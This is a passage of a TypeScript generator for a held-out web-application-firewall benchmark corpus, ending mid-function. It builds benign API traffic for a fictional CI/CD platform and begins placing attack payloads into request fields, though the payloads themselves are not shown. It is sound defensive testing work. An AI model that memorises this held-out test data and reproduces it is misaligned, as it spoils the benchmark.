/**
 * Deterministic generator of the SECOND held-out WAF API-profile corpora (session 4). Written before the
 * session-4 changes to the profile's prose handling and never edited to make a sample pass; its domain differs
 * from generate.ts (issue tracker + CMS) and heldout.ts (shop + forum + wiki):
 * - `clean-heldout2.json`: realistic traffic of an imaginary developer platform with CI/CD ("Forgeline"): merge
 *   requests and review notes in markdown (inline code with shell and SQL words, fenced snippets), issues and
 *   incident reports, release notes, commit statuses, pipeline triggers with variables, CI variables, deploys,
 *   runner registration, artifacts, webhooks from a git host (commit messages), audit-log NDJSON, GraphQL
 *   dashboards, code search, OAuth form logins, file uploads of CI configuration (a code field), chat-ops
 *   commands in prose and non-English team comments;
 * - `attacks-heldout2.json`: SQLi, XSS, RCE, LFI, SSRF, NoSQL, prototype pollution, template injection and
 *   Log4Shell as they would be sent to such an API: branch and tag names, pipeline variables, webhook URLs,
 *   artifact paths, repository import URLs, notification templates, review notes (bare and inside markdown),
 *   GraphQL variables, query strings, headers, cookies, forms, base64 and JSON inside strings.
 *
 * The code fields of this API (what a user would list in `exclude_fields`: file contents, diffs, job scripts and
 * snippets) are {@link HELDOUT2_EXCLUDE_FIELDS}; markdown prose fields (descriptions, notes, release notes) are
 * deliberately NOT excluded, since they are where prose and embedded attacks meet. No attack uses an excluded
 * field.
 *
 * Run: `node bench/waf/corpus/heldout2.ts` (writes both files next to this script; same output every run).
 */
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import type { CorpusRequest } from './generate.ts';

/** The second held-out API's code fields (CI config file content, diffs, job scripts, snippet code). */
export const HELDOUT2_EXCLUDE_FIELDS = ['body.content', 'body.diff', 'body.script[]', 'body.snippet.code'];

/** mulberry32 (same as generate.ts, another seed). */
function prng(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}
const rnd = prng(0x2b0c_41d);
const pick = <T>(xs: readonly T[]): T => xs[Math.floor(rnd() * xs.length)] as T;
const int = (lo: number, hi: number): number => lo + Math.floor(rnd() * (hi - lo + 1));
/** The i-th element, cycling: every pool item is used at least once when a loop runs past its length. */
const nth = <T>(xs: readonly T[], i: number): T => xs[i % xs.length] as T;
const json = (v: unknown): string => JSON.stringify(v);
const b64 = (s: string): string => Buffer.from(s, 'utf8').toString('base64');
const enc = encodeURIComponent;
const hex = (n: number): string =>
  Array.from({ length: n }, () => '0123456789abcdef'[int(0, 15)] as string).join('');

const AGENTS = [
  'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36',
  'Mozilla/5.0 (Macintosh; Intel Mac OS X 14_6) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.0 Safari/605.1.15',
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:132.0) Gecko/20100101 Firefox/132.0',
  'forgeline-cli/3.8.0 (linux; amd64) go1.23.3',
  'forgeline-runner/17.4.1 (linux/arm64)',
  'GitHub-Hookshot/5e0f2a1',
  'python-requests/2.32.3',
  'terraform-provider-forgeline/1.9.0',
  'curl/8.11.0',
  'Go-http-client/2.0',
  'axios/1.7.7',
  'okhttp/4.12.0',
];
const LANGS = [
  'en-US,en;q=0.9',
  'en-IN,en;q=0.9,hi;q=0.6',
  'nl-NL,nl;q=0.9,en;q=0.7',
  'ko-KR,ko;q=0.9',
  'es-AR',
];
const COOKIES = [
  '_forgeline_session=5f1c0e9ab37d4c21b8e6f0a2d9c4b1e7; known_sign_in=dHJ1ZQ%3D%3D; hide_auto_devops_banner=true',
  'sidebar_collapsed=false; preferred_language=en; event_filter=merge_requests; diff_view=parallel',
  '_forgeline_session=9e2d7c1b6a5f4e3d; theme=solarized-dark; tz=America%2FSao_Paulo',
];
const PAT = 'flpat-Xk29dL0qW7mZr4Tn8Bv1';

function headers(ct: string | null, extra: Record<string, string> = {}): Record<string, string> {
  const ua = pick(AGENTS);
  const h: Record<string, string> = { 'user-agent': ua, accept: 'application/json' };
  if (ua.startsWith('Mozilla')) {
    h['accept-language'] = pick(LANGS);
    h.cookie = pick(COOKIES);
    h['x-csrf-token'] = `${hex(16)}==`;
    h.referer = `https://forge.example.dev/${pick(['acme/api/-/merge_requests/412', 'acme/web/-/pipelines', 'dashboard/issues', 'acme/infra/-/releases'])}`;
  } else if (rnd() < 0.8) h['private-token'] = PAT;
  else h.authorization = `Bearer ${PAT}`;
  if (rnd() < 0.25) h['x-request-id'] = `${hex(8)}-${hex(4)}-${hex(4)}-${hex(12)}`;
  if (ct !== null) h['content-type'] = ct;
  return { ...h, ...extra };
}

// ------------------------------------------------------------------------------------------------ clean pools

const PEOPLE = [
  'Priya Raghunathan',
  'Jonas Vermeulen',
  '이서연',
  'Mateo Fernández',
  'Aoife Ní Bhriain',
  'Dmitri Sokolov',
  '陈静',
  'Olúwaseun Adébáyọ̀',
  'Hanna Kowalczyk',
  'Yusuf Demir',
  "Liam O'Connor",
  'Thandiwe Nkosi',
];
const BRANCHES = [
  'main',
  'develop',
  'feature/union-types-in-schema',
  'fix/drop-legacy-exec-endpoint',
  'chore/bump-node-22',
  'release/2026.11',
  'hotfix/select-menu-focus',
  'renovate/postgres-17.x',
  'feat/ping-healthcheck',
  'docs/curl-examples',
  'refactor/rm-unused-helpers',
  'spike/wasm-sandbox',
];
const COMMIT_MESSAGES = [
  'Fix flaky test in pipeline_spec when runner is slow',
  'Drop support for Node 18',
  'Add `--dry-run` to the `cleanup` command',
  'Bump postgres from 16.4 to 17.1',
  'Revert "Use UNION ALL in the stats query"\n\nThis reverts commit 3f2a9c1. The dedup step downstream still expects distinct rows.',
  'ci: cache ~/.npm between jobs',
  'Select the default branch when the ref is empty',
  'Handle SIGTERM in the worker so deploys drain cleanly',
  'docs: explain how to curl the health endpoint',
  'Rename `exec_sql` helper to `run_query`',
  'Delete stale feature flags (insert_batching, where_v2)',
  'fix(api): return 404 instead of 500 when the user does not exist',
  'chore: remove `rm -rf dist` from prepublish, tsc cleans it',
  "Merge branch 'fix/select-menu-focus' into 'main'",
  'perf: avoid N+1 when loading pipeline jobs (join on stage_id)',
  'Update README: the `wget` fallback is gone',
];
const MR_DESCRIPTIONS = [
  '## What does this MR do?\n\nRemoves the legacy `/exec` endpoint that was deprecated in 2025.10. Clients should use `/run` instead.\n\n## How to test\n\n1. Start the stack with `docker compose up -d`\n2. Run `make test-api`\n3. Check that `curl localhost:8080/exec` now returns 404\n\nCloses #2231',
  'This switches the nightly stats job from `UNION` to `UNION ALL` and dedups in the application, which is 4x faster on the big projects.\n\nBenchmarks are in the linked issue.',
  'Adds a `ping` subcommand to the CLI so people can check connectivity without curl. Output looks like:\n\n```\n$ forgeline ping\nforge.example.dev: 38 ms (200 OK)\n```',
  'Small one: the runner now logs which `shell` it picked (bash, sh or pwsh) at startup. Helps a lot when debugging Windows runners.',
  'Migrates the `builds` table to bigint ids. The migration runs in batches of 10k; we tested it on a copy of production and it takes ~40 minutes.\n\n**Needs a maintenance window.**',
  'Replaces the hand-rolled `select` dropdown with the design-system component. Keyboard navigation works now (fixes #1980).',
  "Fixes the `where` clause builder so that an empty filter list doesn't produce `WHERE ()`. Added a regression test.",
  'Bumps the base image to Debian 13. `apt-get` sources moved to deb822 format, so the Dockerfile changes a bit.',
  'Adds retries with jitter to artifact uploads. Before, a single 502 from the object store failed the whole job.',
  'Docs only: rewrote the "Getting started" page, added examples for `curl`, `httpie` and the Python client.',
  'Removes `eval` from the template loader — we now parse the config with a real YAML parser.',
  'Teaches the scheduler to drop jobs whose pipeline was cancelled before they were picked up.',
];
const REVIEW_NOTES = [
  'nit: can we use `printf` instead of `echo -e` here? `echo -e` is not portable.',
  'Why do we need `sudo` in the job? The runner user owns the workspace.',
  'LGTM once CI is green.',
  "Could you run `ping` against the staging host from the runner? I suspect it can't resolve it.",
  'This query does a full scan; please add an index on `(project_id, created_at)`.',
  "I'd rather not `DROP` the column in the same release; mark it ignored first and drop it next month.",
  'Tested locally with `make e2e`, all 212 specs pass.',
  '`whoami` in the container prints `root` — we should add `USER app` to the Dockerfile.',
  'Looks good. One question: do we still need the `wget` fallback now that every image ships curl?',
  'Suggestion: use `SELECT ... FOR UPDATE SKIP LOCKED` so two workers never grab the same job.',
  'Please rebase on main, there were conflicts in `db/schema.rb`.',
  'The `cat` in line 14 is useless, `grep` can read the file directly.',
  'Good catch on the race. Maybe add a comment explaining why we `sleep 2` before retrying?',
  'This will break people who call `kill -9` on the worker; the lock file is never cleaned up.',
  "Nice. I'd still run `shellcheck` on the new script before merging.",
  'Can we keep the `--where` flag as an alias for a release or two?',
  'Blocking: `exec "$@"` at the end of the entrypoint is missing, so signals don\'t reach the app.',
  'We should `chmod 600` the key file, ssh refuses it otherwise.',
  "The docs say 'insert into the queue', but the code calls it enqueue. Let's pick one word.",
  'Minor: `ls -1 | wc -l` is fine for a quick check but use `find` in the script.',
  'Approving. The `union` of both label sets is what the UI expects, right?',
  '¿Podemos mover el `curl` a un paso aparte? Así se ve mejor en el log.',
  'Dit werkt niet op Windows: `rm` bestaat daar niet, gebruik `Remove-Item`.',
  '이 부분은 `select` 대신 `join`을 쓰는 게 더 빠를 것 같아요.',
  'Please squash the fixup commits before merging.',
];
const ISSUES = [
  {
    title: 'Pipeline stuck in "pending" after runner upgrade',
    description:
      'Since upgrading the runners to 17.4, pipelines on `main` stay pending forever. The runner log shows `checking for jobs... received` and then nothing.\n\nSteps: push any commit, watch the pipeline.\n\nExpected: jobs start within a minute.',
  },
  {
    title: 'Search returns nothing for "select"',
    description:
      'Code search for the word select returns zero results, although it appears in hundreds of files. Searching for "selected" works.',
  },
  {
    title: 'Deploy job fails with "permission denied" on /var/run/docker.sock',
    description:
      'Our deploy job started failing yesterday:\n\n```\nGot permission denied while trying to connect to the Docker daemon socket at unix:///var/run/docker.sock\n```\n\nNothing changed on our side. Did the runner image change?',
  },
  {
    title: 'Allow `rm` of protected tags by maintainers',
    description:
      'Right now only owners can delete protected tags. Maintainers should be able to remove tags they created by mistake.',
  },
  {
    title: 'Merge request diff is empty when the branch name contains a slash',
    description:
      'Happens for branches like `feature/foo`. Other branches are fine. Reproduced on Firefox and Chrome.',
  },
  {
    title: 'Incident 2026-11-03: artifacts unavailable for 40 minutes',
    description:
      '**Impact:** downloads of job artifacts returned 503 between 14:02 and 14:41 UTC.\n\n**Root cause:** the object store credentials rotated and the API kept the old ones in memory.\n\n**Follow-ups:**\n- [ ] reload credentials on SIGHUP\n- [ ] alert on 5xx rate of the artifact endpoint\n- [x] write this report',
  },
  {
    title: 'Wrong timezone in scheduled pipelines',
    description:
      'The schedule `0 2 * * 1-5` runs at 03:00 local time since the DST change. The project timezone is Europe/Amsterdam.',
  },
  {
    title: 'Feature request: delete old pipelines in bulk',
    description:
      'We have 40k pipelines on one project. Please add a way to delete everything older than a date, from the UI or the API.',
  },
  {
    title: 'The "Drop stale runners" button does nothing',
    description: 'Clicking it shows a spinner and then the list is unchanged. Console shows a 422.',
  },
  {
    title: 'Variables with a `$` are expanded even when "expand" is off',
    description:
      'A variable with value `pa$$word` arrives as `pa$word` in the job. We unchecked "Expand variable reference".',
  },
  {
    title: 'Support ARM64 runners on the hosted plan',
    description:
      'Most of our images are multi-arch now, and building them under emulation takes forever. Any plans for native arm64 runners?',
  },
  {
    title: 'Como eliminar un runner que ya no existe?',
    description:
      'El servidor del runner fue borrado y ahora aparece como "offline" para siempre. No encuentro el botón para quitarlo.',
  },
];
const RELEASE_NOTES = [
  '## 2026.11\n\n### Added\n- `forgeline ping` checks connectivity to the instance\n- Pipelines can now be filtered by `source` (push, schedule, api)\n\n### Changed\n- The stats query uses `UNION ALL`; totals may differ by a few percent on projects with duplicate events\n\n### Removed\n- The deprecated `/exec` endpoint',
  '## 17.4.1 (runner)\n\n- Fix: `sh` was picked instead of `bash` on Alpine images that ship both\n- Fix: artifacts larger than 4 GiB failed to upload\n- Security: update Go to 1.23.3',
  '## v3.8.0 CLI\n\nNew: `forgeline vars set KEY VALUE --masked`. Deprecated: `forgeline exec` (use `forgeline run`). The `--where` flag of `forgeline pipelines list` is now called `--filter`.',
  'Bug-fix release. Upgrading is recommended for everyone who runs the self-hosted edition behind a proxy.',
  '## 2026.10.2\n\nFixes a regression where `select` inputs in the pipeline editor lost focus after each keystroke.',
];
const STATUS_DESCRIPTIONS = [
  'All 1,204 tests passed',
  '3 failed: union_spec, select_spec, drop_table_spec',
  'Lint passed (eslint, shellcheck)',
  'Coverage 87.4% (+0.3%)',
  'Build succeeded in 4m 12s',
  'Waiting for a runner with tag "gpu"',
  'Security scan: 0 critical, 2 medium',
  'Deploy to staging finished',
];
const CHATOPS = [
  '/deploy api to staging',
  '/rollback web to the previous release, the select menu is broken',
  'please run the db migration job again, it timed out',
  '/pipeline retry 88123',
  'can someone kill the stuck job on runner-12? it has been sleeping for an hour',
  'who owns the cron that drops the temp tables at 3am?',
];
const SEARCHES = [
  'flaky test',
  'union all',
  'select from builds',
  'docker login',
  'rm -rf node_modules',
  'pg_dump',
  'set -euo pipefail',
  'runner offline',
  'artifact expire_in',
  'where clause builder',
  'curl health endpoint',
  'exec format error',
  'sleep before retry',
  'delete pipeline',
  'ping timeout',
];
const CI_CONFIGS = [
  'stages: [build, test, deploy]\n\nbuild:\n  image: node:22\n  script:\n    - npm ci\n    - npm run build\n  artifacts:\n    paths: [dist/]\n\ntest:\n  script:\n    - npm test -- --reporter junit > report.xml\n\ndeploy:\n  script:\n    - curl -fsS -X POST "$DEPLOY_HOOK" -H "Authorization: Bearer $DEPLOY_TOKEN"\n  only: [main]\n',
  'variables:\n  POSTGRES_DB: app_test\n\ntest:\n  services: [postgres:17]\n  script:\n    - psql -h postgres -U postgres -c "CREATE DATABASE app_test;"\n    - bundle exec rspec\n',
  'lint:\n  image: koalaman/shellcheck-alpine\n  script:\n    - shellcheck scripts/*.sh\n    - find . -name "*.sh" -exec chmod +x {} \\;\n',
  'cleanup:\n  when: always\n  script:\n    - rm -rf /tmp/build-cache || true\n    - docker system prune -af\n',
];
const DIFFS = [
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a literal `${…}` (code or attack payload)
  '@@ -12,7 +12,7 @@\n-  const rows = await db.query(`SELECT * FROM jobs WHERE id = ${id}`);\n+  const rows = await db.query("SELECT * FROM jobs WHERE id = $1", [id]);\n',
  '@@ -1,4 +1,5 @@\n #!/bin/sh\n+set -eu\n cd "$(dirname "$0")"\n-eval $CMD\n+exec "$@"\n',
];
const SCRIPTS = [
  ['apt-get update', 'apt-get install -y jq', 'jq .version package.json'],
  ['cat /etc/os-release', 'uname -a', 'id'],
  ['echo "$CI_COMMIT_SHA" > VERSION', 'tar -czf release.tgz dist/ VERSION'],
];
const SNIPPETS = [
  "import subprocess\nsubprocess.run(['ls', '-la', '/var/log'], check=True)\n",
  '<script>\n  document.getElementById("badge").innerHTML = status;\n</script>\n',
  "SELECT p.id, count(j.id) FROM pipelines p JOIN jobs j ON j.pipeline_id = p.id WHERE p.status = 'failed' GROUP BY p.id;\n",
];
const AUDIT_EVENTS = [
  { action: 'project.variable.update', target: 'DEPLOY_TOKEN' },
  { action: 'member.remove', target: 'user:jonas' },
  { action: 'runner.register', target: 'runner-44' },
  { action: 'branch.protect', target: 'main' },
  { action: 'pipeline.schedule.create', target: 'nightly-e2e' },
  { action: 'token.revoke', target: 'flpat-…8Bv1' },
];
const GQL = [
  {
    q: 'query Pipelines($project: ID!, $first: Int) { project(fullPath: $project) { pipelines(first: $first) { nodes { id status ref duration } } } }',
    v: () => ({ project: pick(['acme/api', 'acme/web', 'acme/infra']), first: int(5, 50) }),
  },
  {
    q: 'query MR($iid: String!) { project(fullPath: "acme/api") { mergeRequest(iid: $iid) { title description author { username } } } }',
    v: () => ({ iid: String(int(1, 600)) }),
  },
  {
    q: 'mutation Note($id: ID!, $body: String!) { createNote(input: { noteableId: $id, body: $body }) { note { id } errors } }',
    v: () => ({ id: `gid://forgeline/MergeRequest/${int(1000, 9999)}`, body: pick(REVIEW_NOTES) }),
  },
  {
    q: 'query Runners { runners(status: ONLINE, type: PROJECT_TYPE) { nodes { id description tagList } } }',
    v: () => ({}),
  },
];

// ---------------------------------------------------------------------------------------------------- clean

const clean: CorpusRequest[] = [];
function addClean(
  kind: string,
  method: string,
  path: string,
  ct: string | null,
  body: string,
  extra: Record<string, string> = {},
): void {
  clean.push({ id: `k${clean.length + 1}`, kind, method, path, headers: headers(ct, extra), body });
}
const J = 'application/json';
const pid = (): number => int(10, 9999);

// merge requests (30)
for (let i = 0; i < 30; i++) {
  const src = nth(BRANCHES, i + 2);
  if (i % 3 === 2)
    addClean(
      'merge-request',
      'PUT',
      `/api/v4/projects/${pid()}/merge_requests/${int(1, 600)}`,
      J,
      json({ title: `Draft: ${nth(COMMIT_MESSAGES, i)}`, labels: 'backend,needs-review', squash: true }),
    );
  else
    addClean(
      'merge-request',
      'POST',
      `/api/v4/projects/${pid()}/merge_requests`,
      J,
      json({
        source_branch: src,
        target_branch: 'main',
        title: nth(COMMIT_MESSAGES, i).split('\n')[0],
        description: nth(MR_DESCRIPTIONS, i),
        remove_source_branch: rnd() < 0.7,
        assignee_ids: [int(1, 300)],
        labels: pick(['bug', 'feature', 'docs,ci', 'database', '']),
      }),
    );
}
// review notes (50)
for (let i = 0; i < 50; i++) {
  const note = nth(REVIEW_NOTES, i);
  if (i % 5 === 4)
    addClean(
      'review-note',
      'POST',
      `/api/v4/projects/${pid()}/merge_requests/${int(1, 600)}/discussions`,
      J,
      json({
        body: note,
        position: {
          position_type: 'text',
          base_sha: hex(40),
          head_sha: hex(40),
          start_sha: hex(40),
          new_path: pick(['scripts/deploy.sh', 'app/models/build.rb', 'src/runner/shell.go', 'Dockerfile']),
          new_line: int(1, 400),
        },
      }),
    );
  else
    addClean(
      'review-note',
      'POST',
      `/api/v4/projects/${pid()}/merge_requests/${int(1, 600)}/notes`,
      J,
      json({ body: note }),
    );
}
// issues and incidents (24)
for (let i = 0; i < 24; i++) {
  const issue = nth(ISSUES, i);
  addClean(
    'issue',
    i % 4 === 3 ? 'PUT' : 'POST',
    i % 4 === 3 ? `/api/v4/projects/${pid()}/issues/${int(1, 3000)}` : `/api/v4/projects/${pid()}/issues`,
    J,
    json({
      title: issue.title,
      description: issue.description,
      labels: pick(['bug,ci', 'incident', 'feature-request', 'support']),
      confidential: i % 6 === 0,
      due_date: rnd() < 0.3 ? `2026-12-${10 + (i % 18)}` : null,
    }),
  );
}
// releases (10)
for (let i = 0; i < 10; i++)
  addClean(
    'release',
    'POST',
    `/api/v4/projects/${pid()}/releases`,
    J,
    json({
      tag_name: `v${int(1, 4)}.${int(0, 20)}.${int(0, 9)}`,
      name: pick(['Autumn release', 'Runner 17.4.1', 'CLI 3.8', 'Hotfix']),
      description: nth(RELEASE_NOTES, i),
      assets: { links: [{ name: 'Checksums', url: 'https://downloads.example.dev/cli/SHA256SUMS' }] },
    }),
  );
// commit statuses (20)
for (let i = 0; i < 20; i++)
  addClean(
    'commit-status',
    'POST',
    `/api/v4/projects/${pid()}/statuses/${hex(40)}`,
    J,
    json({
      state: pick(['pending', 'running', 'success', 'failed']),
      name: pick(['ci/lint', 'ci/test', 'security/scan', 'deploy/staging']),
      description: nth(STATUS_DESCRIPTIONS, i),
      target_url: `https://forge.example.dev/acme/api/-/jobs/${int(1e5, 9e5)}`,
      coverage: rnd() < 0.5 ? 80 + int(0, 199) / 10 : undefined,
    }),
  );
// pipeline triggers with variables (25)
for (let i = 0; i < 25; i++)
  addClean(
    'pipeline',
    'POST',
    `/api/v4/projects/${pid()}/pipeline`,
    J,
    json({
      ref: nth(BRANCHES, i),
      variables: [
        { key: 'DEPLOY_ENV', value: pick(['staging', 'production', 'review-412']), variable_type: 'env_var' },
        { key: 'REGION', value: pick(['eu-west-1', 'us-east-2', 'ap-south-1']) },
        { key: 'RUN_E2E', value: pick(['true', 'false']) },
        ...(i % 4 === 0 ? [{ key: 'EXTRA_ARGS', value: '--verbose --shard=2/4' }] : []),
        ...(i % 5 === 1 ? [{ key: 'NODE_OPTIONS', value: '--max-old-space-size=4096' }] : []),
      ],
    }),
  );
// CI variables (20)
const VARIABLES: [string, string][] = [
  ['DATABASE_URL', 'postgres://app:REDACTED@db-primary.prod.example.net:5432/app?sslmode=require'],
  ['SENTRY_DSN', 'https://3f1c9a@o123.ingest.example.io/456'],
  ['DOCKER_AUTH_CONFIG', json({ auths: { 'registry.example.dev': { auth: b64('ci:token-123') } } })],
  ['JAVA_OPTS', '-Xmx2g -XX:+UseG1GC -Dfile.encoding=UTF-8'],
  ['SLACK_CHANNEL', '#deploys'],
  ['MAVEN_CLI_OPTS', '--batch-mode --errors --fail-at-end --show-version'],
  ['KUBE_NAMESPACE', 'acme-api-production'],
  ['FEATURE_FLAGS', 'new_select_menu,union_stats,drop_legacy_exec'],
  ['GPG_KEY_ID', '0xA1B2C3D4E5F60718'],
  ['PIP_INDEX_URL', 'https://pypi.example.dev/simple/'],
];
for (let i = 0; i < 20; i++) {
  const [key, value] = nth(VARIABLES, i);
  addClean(
    'ci-variable',
    i % 2 === 0 ? 'POST' : 'PUT',
    i % 2 === 0 ? `/api/v4/projects/${pid()}/variables` : `/api/v4/projects/${pid()}/variables/${key}`,
    J,
    json({
      key,
      value,
      masked: key.includes('TOKEN') || key.includes('URL'),
      protected: true,
      raw: i % 3 === 0,
    }),
  );
}
// deployments and environments (15)
for (let i = 0; i < 15; i++)
  addClean(
    'deploy',
    'POST',
    `/api/v4/projects/${pid()}/deployments`,
    J,
    json({
      environment: pick(['production', 'staging', `review/${nth(BRANCHES, i)}`]),
      sha: hex(40),
      ref: nth(BRANCHES, i),
      tag: false,
      status: pick(['running', 'success', 'failed', 'canceled']),
      description: pick([
        'Rolling update, 3 of 12 pods at a time',
        'Rollback after the select menu regression',
        'Blue/green switch; old color kept for 1 h',
        'Manual deploy by the on-call engineer',
      ]),
    }),
  );
// runners (12)
for (let i = 0; i < 12; i++)
  addClean(
    'runner',
    'POST',
    '/api/v4/user/runners',
    J,
    json({
      runner_type: 'project_type',
      project_id: pid(),
      description: pick([
        'docker-autoscaler on spot instances',
        'macOS runner (M2) for the iOS app',
        'Windows Server 2022, shell executor (pwsh)',
        'GPU runner for the ML jobs — do not use for normal builds',
      ]),
      tag_list: pick([
        ['docker', 'linux'],
        ['macos', 'xcode16'],
        ['windows', 'pwsh'],
        ['gpu', 'cuda12'],
      ]),
      run_untagged: i % 3 === 0,
      maximum_timeout: pick([3600, 7200, 10800]),
    }),
  );
// artifacts and files (15): CI config uploads (code field), artifact metadata
for (let i = 0; i < 15; i++) {
  if (i % 3 === 0)
    addClean(
      'file',
      'PUT',
      `/api/v4/projects/${pid()}/repository/files/.forgeline-ci.yml`,
      J,
      json({
        branch: nth(BRANCHES, i),
        commit_message: nth(COMMIT_MESSAGES, i).split('\n')[0],
        content: nth(CI_CONFIGS, i),
        encoding: 'text',
      }),
    );
  else if (i % 3 === 1)
    addClean(
      'file',
      'POST',
      `/api/v4/projects/${pid()}/repository/commits`,
      J,
      json({
        branch: nth(BRANCHES, i),
        commit_message: nth(COMMIT_MESSAGES, i + 3),
        actions: [{ action: 'update', file_path: pick(['src/db/jobs.ts', 'scripts/entrypoint.sh']) }],
        diff: nth(DIFFS, i),
      }),
    );
  else
    addClean(
      'artifact',
      'GET',
      `/api/v4/projects/${pid()}/jobs/artifacts/${enc(nth(BRANCHES, i))}/raw/${pick(['dist/app.tar.gz', 'coverage/index.html', 'reports/junit.xml'])}?job=${pick(['build', 'test', 'coverage'])}`,
      null,
      '',
    );
}
// job scripts and snippets (8; code fields)
for (let i = 0; i < 8; i++) {
  if (i % 2 === 0)
    addClean(
      'snippet',
      'POST',
      '/api/v4/snippets',
      J,
      json({
        title: pick(['List logs', 'Badge updater', 'Failed pipelines per project']),
        visibility: 'internal',
        snippet: { file_name: pick(['logs.py', 'badge.html', 'failed.sql']), code: nth(SNIPPETS, i / 2) },
      }),
    );
  else
    addClean(
      'snippet',
      'POST',
      `/api/v4/projects/${pid()}/jobs/adhoc`,
      J,
      json({ image: 'debian:13-slim', script: nth(SCRIPTS, i), timeout: 600 }),
    );
}
// webhooks from a git host (15)
for (let i = 0; i < 15; i++) {
  const commits = Array.from({ length: int(1, 3) }, (_, k) => ({
    id: hex(40),
    message: nth(COMMIT_MESSAGES, i + k),
    timestamp: `2026-11-${10 + (i % 18)}T${10 + k}:2${k}:00+01:00`,
    author: { name: nth(PEOPLE, i + k), email: `dev${i + k}@example.dev` },
    added: [],
    modified: [
      pick(['README.md', 'src/api/pipelines.ts', 'db/migrate/20261101_bigint_ids.rb', '.forgeline-ci.yml']),
    ],
    removed: [],
  }));
  addClean(
    'webhook',
    'POST',
    '/api/v4/hooks/incoming/github',
    J,
    json({
      ref: `refs/heads/${nth(BRANCHES, i)}`,
      before: hex(40),
      after: hex(40),
      repository: { full_name: 'acme/api', clone_url: 'https://git.example.com/acme/api.git' },
      pusher: { name: nth(PEOPLE, i) },
      commits,
    }),
    {
      'x-github-event': 'push',
      'x-hub-signature-256': `sha256=${hex(64)}`,
      'user-agent': 'GitHub-Hookshot/5e0f2a1',
    },
  );
}
// GraphQL (20)
for (let i = 0; i < 20; i++) {
  const g = nth(GQL, i);
  addClean('graphql', 'POST', '/api/graphql', J, json({ query: g.q, variables: g.v(), operationName: null }));
}
// chat-ops and comments in other languages (12)
for (let i = 0; i < 12; i++)
  addClean(
    'chatops',
    'POST',
    '/api/v4/integrations/chat/commands',
    J,
    json({
      channel: pick(['#deploys', '#oncall', '#team-api']),
      user: nth(PEOPLE, i),
      text: nth(CHATOPS, i),
    }),
  );
// searches and listings (30)
for (let i = 0; i < 30; i++) {
  if (i % 2 === 0)
    addClean(
      'search',
      'GET',
      `/api/v4/search?scope=${pick(['blobs', 'issues', 'merge_requests', 'commits'])}&search=${enc(nth(SEARCHES, i / 2)).replace(/%20/g, '+')}&per_page=20`,
      null,
      '',
    );
  else
    addClean(
      'rest-read',
      'GET',
      pick([
        `/api/v4/projects/${pid()}/pipelines?status=failed&ref=${enc(nth(BRANCHES, i))}&order_by=updated_at&sort=desc`,
        `/api/v4/projects/${pid()}/jobs?scope[]=failed&scope[]=canceled&page=${int(1, 9)}`,
        `/api/v4/projects/${pid()}/merge_requests?state=opened&labels=backend,needs-review&search=${enc('select menu')}`,
        `/api/v4/runners/all?tag_list=docker,linux&status=online`,
        `/api/v4/projects/${enc('acme/api')}/repository/tree?path=${enc('scripts/ci')}&ref=main&recursive=true`,
        `/api/v4/projects/${pid()}/repository/compare?from=v2.3.0&to=v2.4.0`,
      ]),
      null,
      '',
    );
}
// audit log export (NDJSON, 8)
for (let i = 0; i < 8; i++) {
  const lines = Array.from({ length: int(3, 6) }, (_, k) =>
    json({
      ts: `2026-11-2${i % 9}T0${k}:1${k}:00Z`,
      actor: nth(PEOPLE, i + k),
      ...nth(AUDIT_EVENTS, i + k),
      ip: `203.0.113.${int(1, 254)}`,
    }),
  );
  addClean('ndjson', 'POST', '/api/v4/audit/import', 'application/x-ndjson', `${lines.join('\n')}\n`);
}
// OAuth form logins and token exchanges (10)
for (let i = 0; i < 10; i++)
  addClean(
    'form',
    'POST',
    '/oauth/token',
    'application/x-www-form-urlencoded',
    i % 2 === 0
      ? `grant_type=password&username=${enc(`dev${i}@example.dev`)}&password=${enc(pick(['c0rrect horse; battery', 'S3lect!on-2026', "it's-a-secret#1", 'drop*zone&42']))}&scope=api`
      : `grant_type=authorization_code&code=${hex(32)}&redirect_uri=${enc('https://cli.example.dev/callback')}&code_verifier=${hex(43)}`,
  );
// encoded values (10): base64 cursors, JSON inside strings
for (let i = 0; i < 10; i++)
  addClean(
    'encoded',
    'POST',
    `/api/v4/projects/${pid()}/pipelines/search`,
    J,
    json({
      cursor: b64(json({ id: int(1e5, 9e5), updated_at: '2026-11-20T10:00:00Z' })),
      filter: json({ status: ['failed', 'canceled'], ref: nth(BRANCHES, i), source: 'push' }),
      per_page: 50,
    }),
  );

// ---------------------------------------------------------------------------------------------------- attacks

const attacks: CorpusRequest[] = [];
function addAttack(
  family: string,
  technique: string,
  method: string,
  path: string,
  ct: string | null,
  body: string,
  extra: Record<string, string> = {},
): void {
  attacks.push({
    id: `y${attacks.length + 1}`,
    kind: 'attack',
    family,
    technique,
    method,
    path,
    headers: headers(ct, extra),
    body,
  });
}
const GQL_NOTE = GQL[2]?.q as string;

/** One payload through one of eight JSON placements of this API (by index). */
function jsonPlacements(family: string, p: string, i: number): void {
  const t = i % 8;
  if (t === 0)
    addAttack(
      family,
      'json',
      'POST',
      `/api/v4/projects/${pid()}/pipeline`,
      J,
      json({ ref: p, variables: [] }),
    );
  else if (t === 1)
    addAttack(
      family,
      'nested',
      'POST',
      `/api/v4/projects/${pid()}/pipeline`,
      J,
      json({ ref: 'main', variables: [{ key: 'DEPLOY_ENV', value: p }] }),
    );
  else if (t === 2)
    addAttack(
      family,
      'prose-field',
      'POST',
      `/api/v4/projects/${pid()}/merge_requests/${int(1, 600)}/notes`,
      J,
      json({ body: `Thanks for the review! I pushed a fix, ${p} should work now.` }),
    );
  else if (t === 3)
    addAttack(
      family,
      'markdown',
      'POST',
      `/api/v4/projects/${pid()}/issues`,
      J,
      json({
        title: 'Build fails on main',
        description: `Steps to reproduce:\n\n1. Open the job\n2. Enter \`${p}\`\n3. See the error`,
      }),
    );
  else if (t === 4)
    addAttack(
      family,
      'graphql-variables',
      'POST',
      '/api/graphql',
      J,
